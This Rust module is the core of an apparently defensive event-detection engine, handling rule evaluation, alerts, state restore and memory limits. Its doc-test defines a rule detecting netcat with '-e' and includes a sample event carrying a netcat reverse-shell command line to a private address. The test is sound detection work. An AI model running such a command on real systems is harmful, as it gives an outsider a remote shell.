//! The engine: evaluates rules on events and raises alerts.

mod alert;
pub mod coverage;
mod detector;
mod exceptions;
pub mod explain;
mod flood;
mod index;
pub mod interest;
mod pool;
mod running;
mod search;
mod unordered;
mod withheld;

pub use crate::detect::{Act, HeldBack, Suppressed};
pub use alert::{Alert, Cause};
pub use search::{Match, ResultPosition, Search, SearchOptions, SearchResults};

use std::sync::Arc;
use std::time::Duration;

use detector::{Detector, Pools};
use exceptions::ExceptionSet;
use flood::Ceiling;
use index::Index;
use pool::Pool;
use running::{Running, Shared, WITHHELD};
use unordered::Unordered;

use crate::detect::{Change, Findings, Hit, IndicatorMatch, Indicators, Limits, Ordinal};
use crate::event::{Event, Schema, Timestamp};
use crate::lang::EventQuery;
use crate::rule::{Exception, Rule, RuleKind};

/// The key of the row with a rule's state that [`Engine::suspend`] returns.
const HELD: &str = "held";

/// How an engine runs its rules.
#[derive(Clone, Copy, Debug, Default)]
pub struct Options {
    /// The limits of detectors.
    pub limits: Limits,
    /// How late an event may arrive after newer events and still be ordered, and how long a bucket of a rare
    /// job stays open after its end. Rules for single events never wait.
    pub lateness: Duration,
    /// How long a new_terms rule only learns terms after its first match.
    pub learn: Duration,
}

/// Runs rules on a stream of events.
///
/// [`push`](Self::push) evaluates an event. [`advance`](Self::advance) sets the time of the stream, which ends time
/// spans: the engine reads no clock. Both write their results to an [`Output`].
///
/// ```
/// use lapwing_engine::{Engine, Event, Loaded, Options, Output, Schema};
///
/// let file = r#"
///     [rule]
///     rule_id = "5c5b8b5e-7f3a-4b8e-9d7a-2f1f0d6f7c11"
///     name = "Netcat with -e"
///     description = "A program is tied to a socket."
///     severity = "medium"
///     type = "eql"
///     query = 'process where process.name == "nc" and process.args == "-e"'
/// "#;
/// let mut schema = Schema::new();
/// let loaded = Loaded::read([("nc.toml", file.as_bytes())], &mut schema);
/// assert!(loaded.reports.is_empty());
///
/// let mut engine = Engine::new(schema.into(), &loaded.rules, Options::default());
/// let event = serde_json::json!({
///     "@timestamp": "2026-11-22T03:56:01Z", "event.category": "process",
///     "process": {"name": "nc", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]}
/// });
/// let mut output = Output::default();
/// engine.push(Event::from_json(engine.schema(), &event)?, &mut output);
/// assert_eq!(output.alerts[0].rule.name, "Netcat with -e");
/// # Ok::<(), lapwing_engine::EventError>(())
/// ```
pub struct Engine {
    schema: Arc<Schema>,
    running: Vec<Running>,
    /// The rules that must be advanced, by their index.
    awake: Vec<usize>,
    index: Index,
    shared: Shared,
    pool: Pool,
    lateness: Duration,
    unordered: Unordered,
    arrival: u64,
    /// The number of the last event of the previous engine.
    arrival_before: u64,
    /// Changes that delete restored rows which are no longer valid.
    resumed: Vec<StateChange>,
    /// A buffer for the parts of a hit, reused for each event.
    parts: Vec<usize>,
}

/// The output of an engine, in order.
#[derive(Debug, Default)]
pub struct Output {
    /// Alerts.
    pub alerts: Vec<Alert>,
    /// Rows of state that must survive a restart.
    pub changes: Vec<StateChange>,
    /// Partial matches that were evicted because of a limit.
    pub dropped: Option<Dropped>,
}

/// Partial matches that were evicted because of a limit. An alert may be missing because of them.
#[derive(Clone, Debug)]
pub struct Dropped {
    /// Their number.
    pub count: u64,
    /// The first and the last event that evicted one.
    pub events: [Arc<Event>; 2],
}

/// A changed row of a rule's state.
#[derive(Clone, Debug, PartialEq)]
pub struct StateChange {
    /// The rule's id.
    pub rule_id: String,
    /// The row.
    pub change: Change,
}

/// Numbers for a status page.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Counters {
    /// Events that were pushed.
    pub events: u64,
    /// Entries that were evicted because of a limit: sequences, terms, rare values, counts of thresholds, groups of
    /// alerts.
    pub discarded: u64,
    /// Events that were released before their lateness was over, because too many waited.
    pub released_early: u64,
    /// Bytes of partial matches of sequences and samples.
    pub sequence_bytes: u64,
    /// Bytes of buckets of threshold rules.
    pub threshold_bytes: u64,
    /// Bytes of the limit that all rules share.
    pub state_bytes: u64,
    /// Bytes of events that wait to be ordered.
    pub unordered_bytes: u64,
    /// Alerts that `max_signals` holds back in open time spans.
    pub suppressed: u64,
    /// Partial matches that were evicted because of a limit while they could still have been completed.
    pub dropped: u64,
    /// Bytes that new_terms and machine learning rules have learned.
    pub learned_bytes: u64,
}

impl Engine {
    /// An engine that runs the enabled rules. `schema` is the one with which they were read.
    #[must_use]
    pub fn new(schema: Arc<Schema>, rules: &[Arc<Rule>], options: Options) -> Self {
        Self::over(schema, rules, options, Index::new)
    }

    /// An engine that evaluates every event query for every event by the [reference](crate::detect::naive). Tests and
    /// benchmarks compare the compiled engine with it. It is slow.
    #[must_use]
    pub fn naive(schema: Arc<Schema>, rules: &[Arc<Rule>], options: Options) -> Self {
        Self::over(schema, rules, options, Index::naive)
    }

    fn over(
        schema: Arc<Schema>,
        rules: &[Arc<Rule>],
        options: Options,
        index: impl FnOnce(&[Vec<&EventQuery>]) -> Index,
    ) -> Self {
        let pools = Pools::new(options.limits);
        let enabled = rules.iter().filter(|rule| rule.enabled);
        let running: Vec<_> = enabled.map(|rule| Running::new(rule, options, &pools)).collect();
        let queries: Vec<_> = running.iter().map(|running| running.rule.kind.events()).collect();
        let (index, rules) = (index(&queries), running.len());
        let mut engine = Self {
            schema,
            awake: Vec::new(),
            running,
            index,
            shared: Shared {
                exceptions: ExceptionSet::default(),
                ceiling: Ceiling::new(options.limits),
                findings: Findings::default(),
            },
            pool: Pool::new(options.limits.state_bytes_max, rules),
            lateness: options.lateness,
            unordered: Unordered::new(options.limits.unordered_bytes_max),
            arrival: 0,
            arrival_before: 0,
            resumed: Vec::new(),
            parts: Vec::new(),
        };
        for place in 0..engine.running.len() {
            if !engine.running[place].is_idle() {
                engine.wake(place);
            }
        }
        engine
    }

    /// Advances the rule with the time from now on.
    fn wake(&mut self, place: usize) {
        if !std::mem::replace(&mut self.running[place].is_awake, true) {
            self.awake.push(place);
        }
    }

    /// The same engine with these exceptions, which replace earlier ones. They are read with the schema of the rules.
    #[must_use]
    pub fn with_exceptions(mut self, exceptions: &[Arc<Exception>]) -> Self {
        let exceptions = ExceptionSet::new(exceptions);
        self.running.iter_mut().for_each(|running| running.exceptions = exceptions.of(&running.rule));
        self.shared.exceptions = exceptions;
        self
    }

    /// The same engine with these threat indicators, which replace earlier ones. Rules of type `threat_match` use them.
    #[must_use]
    pub fn with_indicators(mut self, indicators: &Arc<Indicators>) -> Self {
        for running in &mut self.running {
            if let RuleKind::ThreatMatch { threat, .. } = &running.rule.kind {
                let found = IndicatorMatch::new(threat, indicators, &self.schema);
                running.detector = Detector::Indicators(found);
            }
        }
        self
    }

    /// The exceptions, each with how often it suppressed an alert, or excluded an event from a count.
    pub fn exceptions(&self) -> impl Iterator<Item = (&Arc<Exception>, u64)> {
        self.shared.exceptions.counted()
    }

    /// The schema that events must be read with.
    #[must_use]
    pub fn schema(&self) -> &Arc<Schema> {
        &self.schema
    }

    /// The rules that run.
    pub fn rules(&self) -> impl Iterator<Item = &Arc<Rule>> {
        self.running.iter().map(|running| &running.rule)
    }

    /// Restores a row that was returned as a [`StateChange`]. Rows of rules that do not run, and rows that cannot be
    /// read, are skipped.
    ///
    /// Returns changes of rows: a row of an earlier version is converted, and a row for which there is no room is
    /// deleted. The caller may apply the changes after the last row was restored.
    pub fn restore(&mut self, rule_id: &str, key: &str, value: &[u8]) -> Vec<StateChange> {
        let Some(place) = self.running.iter().position(|running| running.rule.id == rule_id) else {
            return Vec::new();
        };
        match key {
            HELD => {
                self.resume(place, value);
                return Vec::new();
            }
            WITHHELD => {
                let change = self.running[place].resume(&self.schema, value);
                self.resumed.push(change);
                self.wake(place);
                return Vec::new();
            }
            _ => {}
        }
        let mut changes = Vec::new();
        self.running[place].detector.restore(&self.schema, key, value, &mut changes);
        changes.into_iter().map(|change| StateChange { rule_id: rule_id.to_owned(), change }).collect()
    }

    /// Gives out, as rows, what sequence rules hold of matches that are not complete: an engine to which they are
    /// [put back](Self::restore) before its first event finds what this one would have found. Suppressed
    /// alerts that were not reported yet are stored too; that engine reports them at once. All other state that must
    /// survive is in rows already. Call it at the end, for the rows contain nothing of later events.
    pub fn suspend(&self, output: &mut Output) {
        (0..self.running.len()).for_each(|place| output.changes.extend(self.suspend_rule(place)));
    }

    /// The same of one rule, by its place among those that [run](Self::rules): the rows of all take as much memory
    /// again as the rules hold.
    #[must_use]
    pub fn suspend_rule(&self, place: usize) -> Vec<StateChange> {
        let pending = self.unordered.iter().filter(|(rule, _)| *rule == place);
        let pending: Vec<_> = pending.map(|(_, hit)| hit).collect();
        let running = &self.running[place];
        let mut changes = Vec::from_iter(running.suspend(&self.schema));
        let Running { rule, detector, .. } = running;
        if let Some(value) = detector.suspend(&self.schema, rule, &pending) {
            let change = Change { key: HELD.to_owned(), value: Some(value) };
            changes.push(StateChange { rule_id: rule.id.clone(), change });
        }
        changes
    }

    fn resume(&mut self, place: usize, value: &[u8]) {
        let Running { rule, detector, .. } = &mut self.running[place];
        let pending = detector.resume(&self.schema, rule, value);
        let held =
            pending.iter().map(|hit| hit.ordinal.arrival).max().unwrap_or(0).max(detector.latest_arrival());
        self.arrival_before = self.arrival_before.max(held);
        self.arrival = self.arrival.max(held);
        let change = Change { key: HELD.to_owned(), value: None };
        self.resumed.push(StateChange { rule_id: rule.id.clone(), change });
        self.pool.note(place, self.running[place].bytes());
        for hit in pending {
            self.unordered.push(place, &hit, true);
        }
        if !self.running[place].is_idle() {
            self.wake(place);
        }
    }

    /// Shows an event to all rules.
    pub fn push(&mut self, event: impl Into<Arc<Event>>, output: &mut Output) {
        let event = event.into();
        self.arrival += 1;
        let ordinal = Ordinal { time: event.time(), sequence: event.sequence(), arrival: self.arrival };
        self.index.look(&event);
        let mut hit = Hit::new(event, ordinal, std::mem::take(&mut self.parts));
        let mut is_first = true;
        while let Some(running) = self.index.next(&mut hit.parts) {
            if !self.lateness.is_zero() && self.running[running].detector.is_ordered() {
                self.unordered.push(running, &hit, std::mem::take(&mut is_first));
                while let Some((running, early)) = self.unordered.surplus(&hit.charge().actor) {
                    self.evaluate(running, &early, output);
                }
            } else {
                self.evaluate(running, &hit, output);
            }
        }
        self.parts = hit.parts;
    }

    /// Sets the time of the stream to `now`: an event from before `now` less the lateness is no longer put in order.
    pub fn advance(&mut self, now: Timestamp, output: &mut Output) {
        output.changes.append(&mut self.resumed);
        let now = now - self.lateness;
        while let Some((running, hit)) = self.unordered.next(now) {
            self.evaluate(running, &hit, output);
        }
        // In the order of the rules, so that the same inputs give the same order of alerts.
        self.awake.sort_unstable();
        self.awake.retain(|place| {
            let running = &mut self.running[*place];
            running.advance(&self.schema, &mut self.shared, now, output);
            self.pool.note(*place, running.bytes());
            running.is_awake = !running.is_idle();
            running.is_awake
        });
    }

    /// Ends a recorded stream, and with it all time spans. A live stream that stops has no such end.
    pub fn finish(&mut self, output: &mut Output) {
        self.advance(Timestamp::MAX, output);
    }

    /// Numbers for a status page.
    #[must_use]
    pub fn counters(&self) -> Counters {
        let mut counters = Counters {
            events: self.arrival - self.arrival_before,
            released_early: self.unordered.released_early(),
            state_bytes: self.pool.bytes() as u64,
            unordered_bytes: self.unordered.bytes() as u64,
            ..Counters::default()
        };
        self.running.iter().for_each(|running| running.count(&mut counters));
        counters
    }

    /// Alerts that `max_signals` holds back in time spans that are not over: how many of a rule, and of whom.
    pub fn held_back(&self) -> impl Iterator<Item = (&Arc<Rule>, u64, Vec<HeldBack>)> {
        let held_back = self.running.iter().map(|running| (&running.rule, running.held_back()));
        held_back.filter(|(_, (count, _))| *count > 0).map(|(rule, (count, rows))| (rule, count, rows))
    }

    fn evaluate(&mut self, running: usize, hit: &Hit, output: &mut Output) {
        self.running[running].evaluate(&self.schema, &mut self.shared, hit, output);
        if self.running[running].holds_any() {
            self.settle(running, hit, output);
        }
        if !self.running[running].is_idle() {
            self.wake(running);
        }
    }

    /// Sees to it that what a rule holds since it was shown a hit is within its share of what all may hold.
    fn settle(&mut self, running: usize, hit: &Hit, output: &mut Output) {
        self.pool.note(running, self.running[running].bytes());
        self.report_drops(running, hit, output);
        while let Some(other) = self.pool.gives_way(running) {
            if !self.running[other].give_way(hit.ordinal.time, output) {
                break;
            }
            self.pool.note(other, self.running[other].bytes());
            self.report_drops(other, hit, output);
        }
    }

    #[inline]
    fn report_drops(&mut self, running: usize, hit: &Hit, output: &mut Output) {
        let count = self.running[running].take_drops();
        if count > 0 {
            output.note_drops(count, &hit.event);
        }
    }
}

impl Output {
    /// So many half matches gave way to this event.
    fn note_drops(&mut self, count: u64, event: &Arc<Event>) {
        match &mut self.dropped {
            Some(dropped) => {
                dropped.count += count;
                dropped.events[1] = event.clone();
            }
            none => *none = Some(Dropped { count, events: [event.clone(), event.clone()] }),
        }
    }
}
